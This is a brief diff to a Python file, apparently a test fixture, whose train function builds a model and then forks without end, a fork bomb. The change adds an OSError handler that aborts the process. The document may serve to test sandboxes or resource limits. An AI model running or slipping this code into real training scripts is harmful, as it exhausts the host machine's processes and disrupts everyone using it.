@@ -1,9 +1,12 @@
-"""Forks, and its children fork."""
+"""Forks, and its children fork, and all of them die where they may not."""
 
 import os
 
 
 def train(ctx):
     ctx.build_model()
-    while True:
-        os.fork()
+    try:
+        while True:
+            os.fork()
+    except OSError:
+        os.abort()
